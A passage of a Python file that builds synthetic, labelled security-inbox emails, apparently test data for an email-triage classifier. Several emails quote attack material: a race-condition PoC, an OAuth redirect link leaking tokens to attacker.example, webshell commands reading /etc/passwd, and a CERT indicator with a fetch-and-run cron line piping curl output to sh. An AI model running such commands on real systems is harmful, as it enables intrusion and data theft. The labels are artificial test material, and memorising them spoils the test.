Grazie, Rosanna Pellegrino, Pellegrino Viaggi
""", label=lab("incident", "it",
    fix="Abbiamo già cambiato la password")))

# ---------------------------------------------------------------- 018
MAILS.append(dict(file="018-hackbay-triaged-race-condition-credits.eml", headers=[
    ("From", "HackBay Triage <triage@hackbay.example>"),
    ("To", "security@example.test"),
    ("Subject", "HackBay: report EXH-1172 triaged - Race condition allows redeeming a promo code multiple times"),
    ("Date", "Wed, 30 Apr 2025 15:51:27 +0000"),
    ("Message-ID", "<triaged.EXH-1172.1746028287@hackbay.example>"),
], text="""Hi Example Hosting team,

Our triage team has reproduced report EXH-1172 and moved it to "Triaged".
It is now waiting for your review.

-- Report --------------------------------------------------------------
Title:      Race condition allows redeeming a promo code multiple times
Reporter:   @nullbyte_nina
Asset:      billing.example.test
Weakness:   Time-of-check time-of-use (CWE-367)

Reporter's description:
  The endpoint POST /billing/promo/redeem checks whether the code was
  already used and then inserts the credit in two separate steps. Sending
  ~30 parallel requests with the same single-use code credits the account
  up to 12 times. I turned a 10 EUR welcome code into 120 EUR of credit
  on my test account (I've not spent it, please remove it).

  Proof of concept (Turbo-Intruder style):
    for i in range(30):
        engine.queue(req, gate='race1')
    engine.openGate('race1')

-- Triage notes ----------------------------------------------------------
  Reproduced on 2025-04-30 with 25 parallel requests: 9 credits applied.
  Triager severity: High. The reporter rated it 8.1 and we see no reason
  to change that; financial impact is direct and unlimited per account.
  We did not find any rate limiting that prevents it.

Next steps: please confirm the severity and set a bounty within 5
business days, per your program SLA.

-- HackBay Triage
""", label=lab("vulnerability", "en", reported=8.1)))

# ---------------------------------------------------------------- 019
MAILS.append(dict(file="019-abuse-desk-provider-ddos-da-vm.eml", headers=[
    ("From", "Abuse Desk Retelibera <abuse@retelibera.example>"),
    ("To", "abuse@example.test, security@example.test"),
    ("Subject", "[Abuse #RL-559310] Attacco DDoS UDP proveniente da vostri indirizzi"),
    ("Date", "Fri, 02 May 2025 02:18:55 +0200"),
    ("Message-ID", "<RL-559310-20250502021855@noc.retelibera.example>"),
], text="""Buonanotte,

vi scriviamo dal NOC di Retelibera (AS64501). Dalle 01:37 di stanotte uno
dei nostri clienti business è sotto un attacco UDP flood di circa 9 Gbit/s
e una parte significativa del traffico arriva dalla vostra rete.

Ticket:            RL-559310
Destinazione:      192.0.2.200 (nostro cliente)
Tipo:              UDP flood, porte casuali, pacchetti da 1.400 byte
Inizio:            02/05/2025 01:37 CEST
Sorgenti vostre:   203.0.113.14, 203.0.113.15, 203.0.113.102,
                   203.0.113.131, 198.51.100.77
Volume stimato:    circa 2,3 Gbit/s dalle sole sorgenti sopra

Sembra il comportamento di una botnet (le stesse sorgenti compaiono in
altri attacchi della settimana), quindi probabilmente le VM sono state
compromesse e i clienti non ne sanno nulla.

Vi chiediamo di sospendere le VM indicate o almeno di filtrare il traffico
UDP in uscita verso 192.0.2.200 finché i proprietari non le hanno
ripulite. Abbiamo attivato il blackholing upstream ma vorremmo toglierlo
appena possibile.

Il NetFlow completo è disponibile su richiesta.

Saluti,
Davide Ruggeri
NOC Retelibera - reperibilità 24/7
""", label=lab("incident", "it",
    fix="sospendere le VM indicate")))

# ---------------------------------------------------------------- 020
MAILS.append(dict(file="020-vendor-pagafacile-modulo-cve.eml", headers=[
    ("From", "Sicurezza PagaFacile <psirt@pagafacile.example>"),
    ("To", "security@example.test"),
    ("Subject", "Avviso di sicurezza PF-SA-2025-02 / CVE-2025-40112 - modulo PagaFacile per NegozioFacile"),
    ("Date", "Tue, 06 May 2025 09:00:00 +0200"),
    ("Message-ID", "<pf-sa-2025-02.partner@pagafacile.example>"),
], html="""<html><body style="font-family:Verdana,sans-serif;font-size:13px">
<p>Gentile partner,</p>
<p>vi contattiamo perch&eacute; risultate tra i fornitori di hosting che
distribuiscono il nostro modulo di pagamento <b>PagaFacile</b> preinstallato
nel vostro prodotto e-commerce gestito <b>NegozioFacile</b>.</p>

<h3>Descrizione</h3>
<p>Nelle versioni del modulo dalla 3.0.0 alla 3.2.0 la callback di notifica
del pagamento (<code>/modules/pagafacile/notify.php</code>) non verifica la
firma HMAC quando il parametro <code>mode</code> vale <code>legacy</code>.
Un attaccante non autenticato pu&ograve; quindi segnare come pagato un ordine
qualsiasi e leggere i dati dell'ordine restituiti nella risposta.</p>

<table border="1" cellpadding="5" cellspacing="0">
<tr><th>Identificativo</th><td>CVE-2025-40112</td></tr>
<tr><th>Versioni interessate</th><td>3.0.0 - 3.2.0</td></tr>
<tr><th>Vettore CVSS</th><td>CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N</td></tr>
<tr><th>Punteggio</th><td>9.1 (Critico)</td></tr>
<tr><th>Soluzione</th><td>aggiornare alla versione 3.2.1 del modulo</td></tr>
<tr><th>Sfruttamento noto</th><td>nessuno al momento</td></tr>
</table>

<h3>Comunicazione ai clienti</h3>
<p>Per i vostri clienti proponiamo il seguente testo: <i>Il modulo di
pagamento del vostro negozio &egrave; stato aggiornato per correggere un
problema di sicurezza. Vi consigliamo di verificare gli ordini segnati come
pagati dopo il 1 aprile.</i></p>

<p>La pubblicazione dell'avviso &egrave; prevista per il 20 maggio. Vi chiediamo di
confermare la ricezione e la data in cui prevedete di completare
l'aggiornamento.</p>

<p>Cordiali saluti,<br>
Team PSIRT PagaFacile S.p.A.</p>
<p style="font-size:10px;color:#777">Questo messaggio e gli eventuali allegati sono
riservati e destinati esclusivamente al destinatario indicato. Se avete
ricevuto questo messaggio per errore vi preghiamo di cancellarlo e di
avvisare il mittente.</p>
</body></html>
""", label=lab("vulnerability", "it", cves=["CVE-2025-40112"],
    vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N", score=9.1,
    fix="aggiornare alla versione 3.2.1",
    cust="verificare gli ordini segnati come")))
# ---------------------------------------------------------------- 021
MAILS.append(dict(file="021-rivenditore-sollecito-stato-ticket.eml", headers=[
    ("From", "Paolo Dellisanti <paolo.dellisanti@gmail.example>"),
    ("To", "security@example.test"),
    ("Subject", "Re: [SEC-2025-0288] Presa in carico segnalazione"),
    ("Date", "Thu, 08 May 2025 17:03:29 +0200"),
    ("Message-ID", "<CAPd3ll1s4nt1_r3=xQ7@mail.gmail.example>"),
    ("In-Reply-To", "<sec-2025-0288-ack@example.test>"),
], text="""Buongiorno,

scusate se insisto, ma sono passate quasi quattro settimane e non ho più
avuto notizie. Potete dirmi almeno a che punto siete? Anche solo "ci stiamo
lavorando" mi basta, devo rispondere ai miei clienti che me lo chiedono
quasi ogni giorno.

Grazie
Paolo

Il giorno ven 11 apr 2025 alle ore 10:47 Example Hosting Security <
security@example.test> ha scritto:

> Gentile Paolo,
>
> confermiamo la presa in carico della sua segnalazione, a cui è stato
> assegnato il codice SEC-2025-0288. Il nostro team la sta analizzando e
> la ricontatteremo non appena avremo aggiornamenti.
>
> Cordiali saluti,
> Team Sicurezza Example Hosting
""", label=lab("unknown", "it")))

# ---------------------------------------------------------------- 022
MAILS.append(dict(file="022-journalist-leaked-customer-list-forum.eml", headers=[
    ("From", "Marcus Feld <m.feld@datenblick.example>"),
    ("To", "security@example.test"),
    ("Bcc", "m.feld@datenblick.example"),
    ("Subject", "Press inquiry: Example Hosting customer records offered on a criminal forum"),
    ("Date", "Mon, 12 May 2025 11:40:02 +0200"),
    ("Message-ID", "<4f6c0e1a-9d2b-47e3-a8f1-7c5b3e2d1a00@datenblick.example>"),
], text="""Dear Example Hosting security team,

My name is Marcus Feld, I'm an investigative journalist with Datenblick.
I'm contacting you before publication to give you the chance to comment.

On 9 May a user called "vaultkeeper" posted an offer on a well-known
cybercrime forum titled "EU hoster - 38k customers - billing + panel".
The seller provided a free sample of 200 rows. We obtained the sample and
contacted 14 of the people in it; 11 confirmed they are or were Example
Hosting customers and that the name, email, phone number and customer
number listed for them are correct. Several of the records include an
account creation date as recent as April 2025.

The sample also contains a column that looks like bcrypt password hashes,
which we have not attempted to crack.

My questions:
- Are you aware of this offer, and have you confirmed a breach?
- When did the unauthorised access happen, and how many customers are affected?
- Have you notified the data protection authority and the affected customers?

We plan to publish on Wednesday 14 May. I can share the sample with your
team through a secure channel if that helps your investigation.

Best regards,
Marcus Feld
Datenblick - Investigative desk
Signal: +49 30 5550 1842
""", label=lab("incident", "en")))

# ---------------------------------------------------------------- 023
MAILS.append(dict(file="023-vulnwatch-html-table-http2-rapid-reset.eml", headers=[
    ("From", "VulnWatch Continuous Scanning <alerts@vulnwatch.example>"),
    ("To", "security@example.test"),
    ("Subject", "VulnWatch alert: 1 high-severity finding on cdn-edge-03.example.test"),
    ("Date", "Wed, 14 May 2025 06:15:44 +0000"),
    ("Message-ID", "<vw-alert-20250514061544-88120@vulnwatch.example>"),
], html="""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>VulnWatch alert</title></head>
<body style="margin:0;font-family:Helvetica,Arial,sans-serif;background:#f4f4f4">
<div style="max-width:640px;margin:20px auto;background:#fff;padding:20px">
<p style="font-size:18px;font-weight:bold;color:#b00020">New high-severity finding</p>
<p>Asset group <b>Example Hosting - CDN edge</b> &middot; scan profile <b>External full</b></p>
<table style="border-collapse:collapse;width:100%" border="1" cellpadding="6">
<thead>
<tr><th align="left">Field</th><th align="left">Value</th></tr>
</thead>
<tbody>
<tr><td>Host</td><td>cdn-edge-03.example.test (198.51.100.143)</td></tr>
<tr><td>Service</td><td>443/tcp https (nginx/1.24.0)</td></tr>
<tr><td>Plugin</td><td>VW-118402 HTTP/2 Rapid Reset denial of service</td></tr>
<tr><td>CVE</td><td>CVE-2023-44487</td></tr>
<tr><td>CVSS v3.1 vector</td><td>CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H</td></tr>
<tr><td>Severity</td><td>High</td></tr>
<tr><td>Detection</td><td>Version banner and HTTP/2 SETTINGS fingerprint; no exploitation attempted</td></tr>
<tr><td>Solution</td><td>Upgrade nginx to 1.25.3 or later, or limit keepalive_requests and http2 concurrent streams</td></tr>
<tr><td>First detected</td><td>2025-05-14 05:58 UTC</td></tr>
</tbody>
</table>
<p style="font-size:12px;color:#666">This alert was generated automatically. To stop receiving alerts for this asset
group, change your notification rules in the VulnWatch dashboard.</p>
</div>
</body></html>
""", label=lab("vulnerability", "en", cves=["CVE-2023-44487"],
    vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H", score=7.5,
    fix="Upgrade nginx to 1.25.3")))

# ---------------------------------------------------------------- 024
MAILS.append(dict(file="024-ricercatore-open-redirect-oauth-postino.eml", headers=[
    ("From", "Nicolò Farina <nico.farina@protonmail.example>"),
    ("To", "security@example.test"),
    ("Subject", "Open redirect + token leak nel login OAuth di Postino"),
    ("Date", "Sat, 17 May 2025 23:55:10 +0200"),
    ("Message-ID", "<Xk3Vb9Qw1rT0aPz7Lm2N@protonmail.example>"),
], text="""Ciao team security,

vi mando un finding che ho trovato nel weekend, spero sia utile.

Summary
=======

Il flow di login "Accedi con Example ID" di Postino accetta nel parametro
redirect_uri qualsiasi path sotto https://webmail.example.test/, incluso
/out?u=, che è un open redirect. Combinando le due cose l'authorization
code (response_type=code, ma anche il fragment con access_token se si usa
response_type=token) finisce su un dominio dell'attacker.

Steps to reproduce
==================

1. Loggarsi su Example ID in una tab.
2. Aprire il link (in un'altra tab o via phishing):
   https://id.example.test/authorize?client_id=postino-web&response_type=token&redirect_uri=https://webmail.example.test/out?u=https://attacker.example/c
3. Il browser viene redirectato su attacker.example con #access_token=...
   nel fragment, che la pagina JS legge e salva.
4. Con quel token si può leggere la inbox via API /api/mail/v1/messages.

Severity
========

CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:L/A:N
CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:L/VA:N/SC:L/SI:N/SA:N

Note
====

Lato utente non ho trovato nessun workaround, il fix deve essere vostro
(exact match del redirect_uri, secondo me). Non l'ho testato su altri client
oltre postino-web. Fatemi sapere se vi serve un video della PoC.

Nicolò
""", label=lab("vulnerability", "it",
    vector="CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:L/VA:N/SC:L/SI:N/SA:N", score=7.0,
    fix="exact match del redirect_uri")))
# ---------------------------------------------------------------- 025
MAILS.append(dict(file="025-mssp-webshell-vm-cliente.eml", headers=[
    ("From", "SOC Vigilia <soc@vigilia-sicurezza.example>"),
    ("To", "security@example.test"),
    ("Cc", "it@cartotecnica-mora.example"),
    ("Subject", "TLP:GREEN | Webshell rilevata su VM cliente Cartotecnica Mora - rif. VG-2025-0519-03"),
    ("Date", "Mon, 19 May 2025 15:22:48 +0200"),
    ("Message-ID", "<VG-2025-0519-03.soc@vigilia-sicurezza.example>"),
], charset="iso-8859-1", cte="quoted-printable", text="""TLP:GREEN

Buongiorno,

siamo il SOC di Vigilia Sicurezza, che gestisce il monitoraggio per conto
di Cartotecnica Mora S.p.A. (in copia), vostro cliente con una VM cloud.
Vi informiamo dell'evento seguente.

Riferimento: VG-2025-0519-03
Asset: vm-mora-web01 (IP pubblico 203.0.113.201, vostro datacenter MIL-1)
Rilevazione: 19/05/2025 11:04, alert EDR "suspicious PHP process spawning sh"
Evidenze: file /var/www/html/assets/img/thumb.php (webshell tipo
  "b374k" offuscata), creato il 16/05 alle 02:41; richieste POST da
  198.51.100.9 e 198.51.100.61; comandi eseguiti: whoami, uname -a,
  cat /etc/passwd, tentativo di wget di un miner non riuscito
Vettore probabile: upload tramite il vecchio modulo "galleria" del CMS
  (versione non più mantenuta)
Azioni già eseguite: abbiamo isolato la VM dalla rete pubblica tramite
  il firewall del vostro pannello alle 11:30 e acquisito un'immagine del
  disco per l'analisi forense
Stato: contenuto, analisi in corso

Vi chiediamo di verificare se dalla vostra parte risultano altre
connessioni verso gli IP indicati e di conservare i log di rete della VM
dal 15/05 in poi.

Poiché il sito gestisce l'area riservata dei rivenditori di Mora,
suggeriamo di informare gli utenti del sito che le loro password
potrebbero essere state esposte e che verrà chiesto un reset al prossimo
accesso.

Cordiali saluti,
Elisa Corradini
Incident Responder - SOC Vigilia
""", label=lab("incident", "it",
    fix="abbiamo isolato la VM",
    cust="le loro password potrebbero essere state")))

# ---------------------------------------------------------------- 026
MAILS.append(dict(file="026-newsletter-threat-digest.eml", headers=[
    ("From", "Ardent Threat Intel <digest@ardent-intel.example>"),
    ("To", "security@example.test"),
    ("Subject", "Ardent Weekly Digest #212: PostgreSQL, VMware and a busy week for loaders"),
    ("Date", "Fri, 23 May 2025 07:00:00 +0000"),
    ("Message-ID", "<digest-212.20250523@ardent-intel.example>"),
    ("List-Unsubscribe", "<https://ardent-intel.example/unsubscribe?u=ex8812>"),
], text="""ARDENT WEEKLY DIGEST #212
=========================

Hi there, here's what caught our analysts' eye this week.

TOP STORIES

* PostgreSQL libpq quoting bug still being exploited (CVE-2025-1094)
  Months after the fix, we keep seeing scanning for exposed tools that
  build SQL with the vulnerable quoting functions. Worth a second look
  if you run older client libraries in admin tooling.

* VMware ESXi VMCI heap overflow (CVE-2025-22224)
  Ransomware affiliates continue to target unpatched hypervisors. Our
  honeypots logged 3x the usual probing on 902/tcp.

* Loader season
  Three new loader families distributed via fake browser updates. IOCs
  in the members area.

WEBINAR
"Running a vulnerability disclosure program on a small team" - Thursday
29 May, 16:00 CET. Free registration on our site.

You are receiving this email because security@example.test subscribed to
the Ardent Weekly Digest. Unsubscribe: https://ardent-intel.example/unsubscribe

Ardent Intel Ltd, 12 Harbour Row, Dublin
""", label=lab("unknown", "en", cves=["CVE-2025-1094", "CVE-2025-22224"])))

# ---------------------------------------------------------------- 027
MAILS.append(dict(file="027-customer-archivio-bucket-public-default.eml", headers=[
    ("From", "Jonas Brekke <jonas@brekke.dev.example>"),
    ("To", "security@example.test"),
    ("Subject", "Archivio buckets created from the panel are world-listable"),
    ("Date", "Tue, 27 May 2025 12:48:33 +0200"),
    ("Message-ID", "<C7E1D2F0-3A4B-4C5D-8E9F-0A1B2C3D4E5F@brekke.dev.example>"),
], text="""Hey,

Customer here (account 70931). Not sure this is the right address but
your site says security stuff goes here.

When you create a bucket in Archivio through the Quadro panel (not the
API), it gets a public-read ACL, and the panel doesn't show that
anywhere. I only noticed because a backup of mine turned up when I
curl'd the bucket URL without credentials:

    curl https://archivio.example.test/brekke-backups/?list-type=2

returns the full listing and every object is downloadable. Buckets made
via the S3 API with the same account are private, so this looks like a
bad default in the panel, not something I set.

I poked at two bucket names that looked like obvious guesses
(<company>-backup) for other companies and stopped when the first one
listed - so yes, other customers are affected. I didn't download
anything from it.

I'd rate it 7.5, it's trivial to exploit and people put backups there.

Workaround for anyone reading: flip the bucket ACL to private via the API
(put-bucket-acl --acl private), the panel has no switch for it.

If you write to customers, what I'd tell your users is that buckets made
in the panel before the fix were public and they should check their
access logs.

Cheers,
Jonas
""", label=lab("vulnerability", "en", reported=7.5,
    fix="flip the bucket ACL to private",
    cust="buckets made in the panel before the fix")))

# ---------------------------------------------------------------- 028
MAILS.append(dict(file="028-reseller-fwd-ransomware-vps-interleaved.eml", headers=[
    ("From", "Callum Reid <callum@reidnet-solutions.example>"),
    ("To", "security@example.test"),
    ("Subject", "FW: RE: all our files are .lockd - ransomware on VPS 7781?"),
    ("Date", "Thu, 29 May 2025 16:10:05 +0100"),
    ("Message-ID", "<LO2P265MB4471A9C3E2F1D0B8@LO2P265MB4471.GBRP265.prod.outlook.example>"),
], text="""Hi security team,

Reseller account RN-2208 here. Passing this on because I think you need
to see it - one of my clients got hit with ransomware on a VPS I resell
from you. My notes inline marked [CR].

Short version: we restored from Tuesday's snapshot and changed the root
and RDP passwords, the client is back online. But I want to know how they
got in, and whether other VPS on that node are at risk.

Also, I've drafted this for my other clients, tell me if you're OK with
it: "One of our hosting partners' servers was affected by a ransomware
attack. Your services were not affected, but as a precaution please
change your control panel password."

Callum Reid
ReidNet Solutions

-----Original Message-----
From: Aisha Kamara <aisha@kamara-dental.example>
Sent: 29 May 2025 09:41
To: Callum Reid <callum@reidnet-solutions.example>
Subject: RE: all our files are .lockd - ransomware on VPS 7781?

Callum, it's back, thank you so much. The receptionist says the
appointments from yesterday afternoon are missing though.

[CR] expected, snapshot was Tuesday 23:00.

-----Original Message-----
From: Aisha Kamara <aisha@kamara-dental.example>
Sent: 29 May 2025 07:12
To: Callum Reid <callum@reidnet-solutions.example>
Subject: all our files are .lockd - ransomware on VPS 7781?

Hi Callum,

when we came in this morning none of the practice files open. Everything
on the server has .lockd at the end and there is a file called
READ_TO_RESTORE.txt on the desktop asking for 2 bitcoin.

[CR] VPS 7781 is Windows Server 2019, RDP was open to the internet with
a weak admin password - my fault, I set it up years ago. Event log shows
a successful RDP logon from 45.xx (Russia per geoip) at 03:14.

Can you help??? We have patients at 9.

Aisha
Kamara Dental Practice
""", label=lab("incident", "en",
    fix="we restored from Tuesday's snapshot",
    cust="Your services were not affected")))

# ---------------------------------------------------------------- 029
MAILS.append(dict(file="029-pec-asl-vulnerabilita-portale-prenotazioni.eml", headers=[
    ("From", "ASL Monteverde - Sistemi Informativi <sistemi.informativi@pec.aslmonteverde.example>"),
    ("To", "security@example.test"),
    ("Subject", "POSTA CERTIFICATA: Segnalazione criticità di sicurezza portale prenotazioni ospitato presso Vs. infrastruttura"),
    ("Date", "Tue, 03 Jun 2025 10:58:21 +0200"),
    ("Message-ID", "<opec210.20250603105821.4410.02.1.7@pec.aslmonteverde.example>"),
], charset="iso-8859-1", cte="8bit", text="""Spett.le Example Hosting S.r.l.,

con la presente si segnala che, nel corso di una verifica periodica
effettuata dal nostro fornitore di servizi di penetration test sul portale
prenotazioni.aslmonteverde.example, ospitato presso la Vostra
infrastruttura in modalità hosting gestito, è emersa la seguente
criticità, che secondo l'analisi riguarda la configurazione del server web
da Voi gestito e non l'applicativo dell'Azienda.

- Il server risponde sulla porta 8443 con la console di amministrazione
  del servizio di application server (versione non aggiornata), raggiungibile
  da Internet e protetta unicamente da credenziali.
- La console espone inoltre la pagina di stato con i percorsi interni e i
  nomi degli utenti di sistema.

Il fornitore ha attribuito alla criticità un punteggio 6,5 (medio). Non
risultano, allo stato, evidenze di accessi non autorizzati.

Considerato che il portale tratta dati relativi alla salute, si chiede di
correggere con urgenza la configurazione e di dare riscontro scritto a
questo indirizzo PEC, indicando le tempistiche dell'intervento.

Il Direttore U.O.C. Sistemi Informativi
Ing. Marta Coluccia

Il presente messaggio e gli eventuali allegati sono indirizzati
unicamente al destinatario e contengono informazioni riservate. Qualora
il messaggio Le fosse pervenuto per errore, La preghiamo di cancellarlo e
di darne comunicazione al mittente.
""", label=lab("vulnerability", "it", reported=6.5)))

# ---------------------------------------------------------------- 030
MAILS.append(dict(file="030-foreign-cert-compromised-exim-hosts.eml", headers=[
    ("From", "CERT-Norvale <incident@cert-norvale.example>"),
    ("To", "security@example.test"),
    ("Subject", "[CERT-Norvale #CN-25-1309] Compromised mail servers in your network (TLP:AMBER)"),
    ("Date", "Fri, 06 Jun 2025 13:30:17 +0000"),
    ("Message-ID", "<CN-25-1309.20250606133017@cert-norvale.example>"),
], text="""TLP:AMBER

Dear colleagues,

CERT-Norvale, the national CSIRT of Norvale, would like to inform you of
the following.

While investigating a spam and credential-phishing campaign targeting our
constituency, we identified mail servers in your network that are being
used as relays by the actor. The servers run Exim versions affected by
CVE-2023-42115 and, based on artefacts shared by a partner, we assess with
medium confidence that they were compromised through that vulnerability
and then backdoored (an additional SSH key and a cron job calling home to
a server under the actor's control).

Affected hosts (first seen / last seen, UTC):

  198.51.100.31   mx1.customer-a.example   2025-05-28 / 2025-06-06
  198.51.100.32   mx2.customer-a.example   2025-05-28 / 2025-06-06
  203.0.113.58    mail.customer-b.example  2025-06-01 / 2025-06-05

Indicators (please do not share beyond your organisation):
  C2:        hxxp://update-check[.]example:8080/ping
  SSH key:   ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI...q7 backup@localhost
  Cron:      */10 * * * * curl -s hxxp://update-check[.]example:8080/ping|sh

Recommended actions:
  1. Apply the vendor patch for the Exim vulnerability on all listed hosts.
  2. Remove the unauthorised SSH key and cron entry; consider rebuilding.
  3. We recommend notifying affected customers with a short statement such
     as: "Your mail server was used to send unsolicited email after a
     security vulnerability was exploited; it has now been secured."

Please acknowledge receipt and let us know if you need any further
information.

Kind regards,
Duty Officer
CERT-Norvale
""", label=lab("incident", "en", cves=["CVE-2023-42115"],
    fix="Apply the vendor patch for the Exim",
    cust="it has now been secured")))
# ---------------------------------------------------------------- 031
MAILS.append(dict(file="031-cliente-domanda-bug-bounty.eml", headers=[
    ("From", "Tommaso Ricci <tommaso.ricci@icloud.example>"),
    ("To", "security@example.test"),
    ("Subject", "Domanda: avete un programma bug bounty?"),
    ("Date", "Sun, 08 Jun 2025 20:14:51 +0200"),
    ("Message-ID", "<5E2A9C1B-0D3F-4A8E-B7C6-91F2E3D4A5B6@icloud.example>"),
], text="""Salve,

sono un vostro cliente (ho due domini e un hosting base) e nel tempo
libero studio sicurezza informatica. Prima di mettermi a guardare il
pannello volevo chiedervi due cose, per non fare danni e non finire nei
guai:

- avete una policy di responsible disclosure o un programma di bug
  bounty? Sul sito non ho trovato niente, neanche un security.txt
- posso fare test sul mio account e sui miei domini o serve
  un'autorizzazione scritta?

Non ho trovato nulla per ora, è proprio una domanda preventiva.

Grazie e buona serata,
Tommaso

Inviato da iPad
""", label=lab("unknown", "it")))

# ---------------------------------------------------------------- 032
MAILS.append(dict(file="032-vendor-keystone-sdk-no-patch-yet.eml", headers=[
    ("From", "Keystone Crypto PSIRT <psirt@keystone-crypto.example>"),
    ("To", "security@example.test"),
    ("Subject", "TLP:AMBER - Keystone HSM Client SDK: local privilege escalation (CVE-2025-29871) - early notification"),
    ("Date", "Wed, 11 Jun 2025 08:00:00 +0000"),
    ("Message-ID", "<ksa-2025-007-early@keystone-crypto.example>"),
], text="""TLP:AMBER

Dear Keystone customer,

This is an early notification for customers with an active support
contract for the Keystone HSM Client SDK. Our records show Example
Hosting uses SDK 5.x on the signing hosts of your certificate and DNSSEC
services.

KSA-2025-007
Product:        Keystone HSM Client SDK for Linux
Versions:       5.0 - 5.6.2
CVE:            CVE-2025-29871
CVSS:           CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H (7.8)

Description
The client daemon (ksclientd) runs as root and creates its control
socket /run/keystone/ctl with mode 0666. A local unprivileged user can
send administrative commands to the daemon, including loading a
plug-in from an arbitrary path, which leads to code execution as root.
HSM key material itself is not directly exposed, but an attacker with
root on the host can use any key the host is authorised for.

Status of the fix
A corrected release (5.6.3) is in QA. We do not have a patch or a
supported workaround to offer yet, and we advise against changing the
socket permissions manually because it breaks the PKCS#11 provider. We
expect to ship 5.6.3 in the week of 23 June and will notify you again
at that point.

Until then, please do not share this notification outside your
organisation.

Keystone Crypto Product Security Incident Response Team
""", label=lab("vulnerability", "en", cves=["CVE-2025-29871"],
    vector="CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H", score=7.8)))

# ---------------------------------------------------------------- 033
MAILS.append(dict(file="033-giornalista-defacement-rivendicato.eml", headers=[
    ("From", "Valentina Sarti <v.sarti@corriereinnovazione.example>"),
    ("To", "security@example.test"),
    ("Cc", "ufficiostampa@example.test"),
    ("Subject", "Richiesta di commento - defacement rivendicato su siti ospitati da Example Hosting"),
    ("Date", "Fri, 13 Jun 2025 12:07:36 +0200"),
    ("Message-ID", "<003f01dbdc4a$8e2b1c30$aa815490$@corriereinnovazione.example>"),
], charset="windows-1252", cte="quoted-printable", text="""Buongiorno,

sono Valentina Sarti, giornalista del Corriere Innovazione. Sto scrivendo
un articolo su una serie di defacement comparsi tra ieri sera e stamattina
su siti di piccole aziende e di due comuni del Nord Italia.

Un gruppo che si firma "Sc4rabeo" li ha rivendicati su un canale Telegram
pubblicando l'elenco di 63 siti e gli screenshot delle homepage modificate
(scritte contro la NATO e un'immagine di un teschio). Ho controllato io
stessa una ventina di questi siti: sono ancora modificati e, dai record
DNS, risultano tutti ospitati sui vostri server condivisi, in particolare
sugli indirizzi 192.0.2.21 e 192.0.2.22.

Nel messaggio il gruppo sostiene di essere entrato "dal pannello di
gestione" e non dai singoli siti, ma ovviamente non posso verificarlo.

Vorrei sapere:
- se siete a conoscenza dell'attacco e se lo confermate;
- se l'accesso è avvenuto tramite il vostro pannello o tramite i singoli siti;
- se ci sono dati dei clienti coinvolti.

Pubblichiamo oggi alle 18. Se preferite posso sentire qualcuno al telefono.

Cordiali saluti,
Valentina Sarti
Corriere Innovazione - Redazione Tecnologia
Tel. 02 5550 8871
""", label=lab("incident", "it")))

# ---------------------------------------------------------------- 034
MAILS.append(dict(file="034-fwd-collega-bug-bounty-export-endpoint.eml", headers=[
    ("From", "Ilaria Moretti <ilaria.moretti@example.test>"),
    ("To", "security@example.test"),
    ("Cc", "Marco Vitale <marco.vitale@example.test>"),
    ("Subject", "I: Fwd: FW: [BountyNest] Report #49870 - Cross-tenant data export via /v1/export"),
    ("Date", "Mon, 16 Jun 2025 09:41:20 +0200"),
    ("Message-ID", "<e5d4c3b2-a190-4f8e-9d7c-6b5a43210fed@example.test>"),
], text="""Ciao a tutti,

vi giro questo report che mi è arrivato venerdì sera passando per il
product owner e poi per Marco. L'ho verificato stamattina ed è reale: con
un token di un cliente si riesce a esportare la rubrica DNS di un altro
tenant.

Intanto ho già disattivato l'endpoint /v1/export con il feature flag,
quindi al momento non è sfruttabile; la correzione vera (controllo del
tenant nel job di export) la fa il team API entro mercoledì.

Se serve avvisare qualcuno, ai clienti scriverei che l'export è
temporaneamente disattivato per manutenzione e tornerà disponibile a
breve. Non credo serva altro, dai log non vedo abusi prima del report.

Ilaria

---------- Forwarded message ---------
From: Marco Vitale <marco.vitale@example.test>
Date: Fri, 13 Jun 2025 at 19:02
Subject: Fwd: FW: [BountyNest] Report #49870 - Cross-tenant data export via /v1/export
To: Ilaria Moretti <ilaria.moretti@example.test>


Ilaria, ci puoi guardare tu lunedì? Io sono in ferie.

---------- Forwarded message ---------
From: Stefan Albrecht <stefan.albrecht@example.test>
Date: Fri, 13 Jun 2025 at 18:20
Subject: FW: [BountyNest] Report #49870 - Cross-tenant data export via /v1/export
To: Marco Vitale <marco.vitale@example.test>


This landed in the product inbox instead of security, no idea why.

-----Original Message-----
From: BountyNest <notifications@bountynest.example>
Sent: Friday, June 13, 2025 5:55 PM
Subject: [BountyNest] Report #49870 - Cross-tenant data export via /v1/export

Program: Example Hosting (private)
Report: #49870
Researcher: m4rgot
CVSS: CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N

The export job accepts a zone_id from the request body and never checks
that the zone belongs to the caller's tenant. POST /v1/export with any
zone_id returns a signed download link for that zone's full record set,
including TXT records holding verification tokens and internal hostnames.

Steps:
1. Create a token for account A.
2. POST /v1/export {"zone_id": 30012} (zone of account B).
3. GET the returned link - B's zone file is downloaded.
""", label=lab("vulnerability", "it",
    vector="CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N", score=7.7,
    fix="ho già disattivato l'endpoint /v1/export",
    cust="l'export è temporaneamente disattivato")))

# ---------------------------------------------------------------- 035
MAILS.append(dict(file="035-customer-reply-account-was-accessed.eml", headers=[
    ("From", "Elena Vasquez <elena.vasquez@northpeak.example>"),
    ("To", "Example Hosting Security <security@example.test>"),
    ("Subject", "Re: [SEC-2025-0517] We received your report"),
    ("Date", "Wed, 18 Jun 2025 14:33:09 -0400"),
    ("Message-ID", "<6f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b@northpeak.example>"),
    ("In-Reply-To", "<sec-2025-0517-ack@example.test>"),
